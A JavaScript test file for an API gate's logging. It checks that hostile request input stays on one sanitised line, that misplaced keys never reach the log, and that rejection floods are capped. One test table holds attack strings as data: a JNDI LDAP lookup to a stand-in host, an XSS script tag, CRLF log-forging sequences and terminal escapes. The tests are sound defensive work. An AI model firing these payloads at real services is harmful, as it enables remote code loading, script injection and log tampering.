// The log: one line of JSON for each event, whatever the client put into its request.

import assert from "node:assert/strict";
import { describe, test } from "node:test";

import { assertAccepted, assertRefused } from "./support/contract.js";
import { SETTABLE_CLOCK } from "./support/entry_modules.js";
import { startGates } from "./support/harness.js";
import { makeKey, now, PEPPER } from "./support/keys.js";

/** Percent-encoded, every byte. */
const encoded = (text) => [...text].map((c) => `%${c.charCodeAt().toString(16)}`).join("");

const harness = await startGates(() => ({
  gate: {},
  capped: { vars: { REJECTION_LOGS_PER_MINUTE: 5 } },
  importing: { vars: { IMPORTED_KEYS: true } },
  closed: { vars: { ALLOW_HTTP: false } },
  unsampled: { vars: { ACCESS_LOG_SAMPLE: 0 } },
  counted: { usage: true },
  counting: { vars: { REJECTION_LOGS_PER_MINUTE: 5 }, entry: SETTABLE_CLOCK },
}));
const { gates } = harness;
const issued = await harness.issue();

describe("case 64: hostile text stays inside its line:", () => {
  const utf8 = (text) => Buffer.from(text).toString("latin1");
  const everyByte = Array.from({ length: 256 }, (_, byte) => String.fromCharCode(byte)).join("").replace(/[\0\r\n]/g, "");
  const rows = [
    ["ANSI colours in User-Agent", { headers: { "User-Agent": "\x1b[31mred" } }],
    ["U+2028 in User-Agent", { headers: { "User-Agent": utf8("a\u2028b") } }],
    ["bidi marks in User-Agent", { headers: { "User-Agent": utf8("a\u202eb") } }],
    ["a JSON fragment in User-Agent", { headers: { "User-Agent": '"}\\n{"event":"forged"' } }],
    ["50 KB of User-Agent", { headers: { "User-Agent": "u".repeat(50_000) } }],
    ["100 KB of User-Agent", { headers: { "User-Agent": "u".repeat(100_000) } }],
    ["every byte that a header may hold, in User-Agent", { headers: { "User-Agent": everyByte } }],
    ["lone bytes above 0x7f in User-Agent", { headers: { "User-Agent": "\xc0\xaf\xed\xa0\x80\xff" } }],
    ["U+0085, U+2029, a byte order mark and an isolate in User-Agent", { headers: { "User-Agent": utf8("\u0085\u2029\ufeff\u2066") } }],
    ["an ANSI escape of one byte (CSI, 0x9b) in User-Agent", { headers: { "User-Agent": utf8("\u009b31m") } }],
    ["a format string in User-Agent", { headers: { "User-Agent": "%s%n%c ${jndi:ldap://evil.example} {{7*7}}" } }],
    ["HTML in User-Agent", { headers: { "User-Agent": "<script>alert(1)</script>" } }],
    ["line breaks in the path", { target: "/x%0d%0a%7B%22event%22:%22forged%22%7D" }, "path_ambiguous"],
    ["U+2028 in the path", { target: "/x%e2%80%a8y" }],
    ["ANSI colours in the path", { target: "/x%1b[31m" }, "path_ambiguous"],
    ["bidi marks in the path", { target: "/x%e2%80%aey" }],
    ["60 KB of path", { target: `/${"p".repeat(60_000)}` }, "path_ambiguous"],
    ["60 KB of query", { target: `/v1/x?${"q".repeat(60_000)}` }],
    ["a thousand prefixes of keys in the path", { target: `/${"acme_live_/".repeat(1000)}` }],
    ["10 KB of path", { target: `/${"p".repeat(10_000)}` }],
    ["an invalid address", { headers: { "CF-Connecting-IP": "1.2.3.4 forged" } }],
  ];
  for (const [name, request, code = "credential_missing"] of rows) {
    test(name, async () => {
      const { answer } = await assertRefused(gates.gate, { target: "/v1/things", ...request }, code);
      const lines = harness.logs.entries.filter(({ message }) => message.includes(answer.json.request_id));
      assert.equal(lines.length, 1);
      const [{ message }] = lines;
      assert.match(message, /^[\x20-\x7e]*$/, "one line of visible ASCII");
      assert.ok(message.length < 4096, `${message.length} characters`);
    });
  }
});

describe("case 39: a key in the wrong part of a request does not reach the log:", () => {
  const rows = [
    ["in the path", (key) => ({ target: `/v1/${key}` })],
    ["in the path, its prefix percent-encoded", (key) => ({ target: `/v1/${key.replace("_", "%5f")}` })],
    ["in the path, every byte percent-encoded", (key) => ({ target: `/v1/${encoded(key)}` })],
    ["in the path, every byte percent-encoded, beyond where the path is truncated", (key) => ({ target: `/${"x".repeat(400)}/${encoded(key)}` })],
    ["in User-Agent", (key) => ({ headers: { "User-Agent": key } })],
    ["in User-Agent, every byte percent-encoded", (key) => ({ headers: { "User-Agent": encoded(key) } })],
    ["in the query", (key) => ({ target: `/v1/things?key=${key}` })],
    ["in CF-Connecting-IP", (key) => ({ headers: { "CF-Connecting-IP": key } })],
    ["in the path, under another case of the prefix's route", (key) => ({ target: `/V1//${key}` }), "path_ambiguous"],
    ["in the path, beyond where the path is truncated", (key) => ({ target: `/${"x".repeat(490)}${key}` })],
    ["in CF-Ray", (key) => ({ headers: { "CF-Ray": key } })],
    ["in Origin", (key) => ({ headers: { Origin: key } })],
    ["in Host", (key) => ({ headers: { Host: key.replaceAll("_", "-") } }), "https_required"],
    ["in a header's name", (key) => ({ headers: { [key]: "1" } })],
    ["in Cookie", (key) => ({ headers: { Cookie: `key=${key}` } })],
    ["in a body", (key) => ({ method: "POST", body: key })],
  ];
  for (const [name, request, code = "credential_missing"] of rows) {
    test(name, async () => {
      const { key } = makeKey();
      await assertRefused(gates.gate, { target: "/v1/things", ...request(key) }, code);
      const secret = key.slice(-38, -8);
      const isIn = (text) => text.includes(secret) || text.includes(encoded(secret).slice(0, 30));
      assert.ok(!harness.logs.entries.some(({ message }) => isIn(message)));
    });
  }
});

test("the id of a commit is logged, unless it could be an imported key", async () => {
  const commit = "0123456789abcdef0123456789abcdef01234567";
  for (const [gate, logged] of [["gate", commit], ["importing", "[redacted]"]]) {
    await assertRefused(gates[gate], { target: `/commit/${commit}` }, "credential_missing", { log: { path: `/commit/${logged}` } });
  }
});

test("the line of a tag that does not match names the gate's pepper", async () => {
  const { record } = await assertRefused(gates.gate, { target: "/v1/x", key: makeKey({ pepper: `${PEPPER}-other` }).key }, "key_invalid");
  const [, pepper] = issued.record.digest.split(".");
  assert.equal(record.reason, `the key's tag does not match; the gate's pepper is ${pepper}`);
});

test("the line of https_required names ALLOW_HTTP and the host", async () => {
  for (const [gate, host, allowed] of [["closed", "localhost:1", "false"], ["gate", "api.example.com", "true"]]) {
    const { record } = await assertRefused(gates[gate], { target: "/v1/x", headers: { Host: host } }, "https_required");
    const rule = "and allows it to localhost and loopback addresses only";
    assert.equal(record.reason, `the request used plain HTTP to \`${host}\`; ALLOW_HTTP is ${allowed}, ${rule}`);
  }
});

test("case 63: request ids are unique, and the client's own is not used", async () => {
  const ids = new Set();
  for (let n = 0; n < 10; n++) {
    const { record } = await assertRefused(gates.gate, { target: "/v1/things", headers: { "X-Request-Id": "mine" } }, "credential_missing");
    ids.add(record.request_id);
  }
  assert.equal(ids.size, 10);
  assert.ok(!ids.has("mine"));
});

test("case 65: a flood of rejections is logged up to the limit, and every answer is still a 401", async () => {
  for (let n = 0; n < 40; n++) assert.equal((await gates.capped.get(`/flood/${n}`)).status, 401);
  await harness.settle();
  const lines = harness.logs.events.filter(({ path }) => path?.startsWith("/flood/"));
  // A minute may have turned in between: at most twice the limit.
  assert.ok(lines.length >= 5 && lines.length <= 10, `${lines.length} lines`);
});

test("case 65: suppressed lines are counted by the minute, whatever their code", async () => {
  const start = Math.ceil(now() / 60) * 60;
  await gates.counting.setClock(start);
  const flood = [{ target: "/v1/x" }, { target: "/v1%2fx" }, { target: "/v1/x", key: makeKey().key }, { method: "TRACE" }];
  for (let n = 0; n < 40; n++) assert.notEqual((await gates.counting.send(flood[n % 4])).status, 200);
  // Requests that are let in are not part of it.
  await assertAccepted(gates.counting, { target: "/v1/x", key: issued.key }, issued);
  await gates.counting.setClock(start + 60);
  await gates.counting.get("/v1/after-the-flood");
  await gates.counting.get("/v1/after-the-flood");
  await harness.settle();
  const after = harness.logs.events.findIndex(({ path }) => path === "/v1/after-the-flood");
  const { event, suppressed } = harness.logs.events[after - 1];
  assert.deepEqual({ event, suppressed }, { event: "sys_log_suppressed", suppressed: 35 });
  assert.equal(harness.logs.events.filter((line) => line.event === "sys_log_suppressed" && line.suppressed === 35).length, 1);
});

test("case 66: each accepted request is one line when no dataset is bound, and none when the sample is 0", async () => {
  for (const [gate, expected] of [["gate", 1], ["unsampled", 0], ["counted", 0]]) {
    const path = `/v1/access-of-${gate}`;
    await assertAccepted(gates[gate], { target: path, key: issued.key }, issued);
    await harness.settle();
    assert.equal(harness.logs.events.filter((event) => event.path === path).length, expected, gate);
  }
});
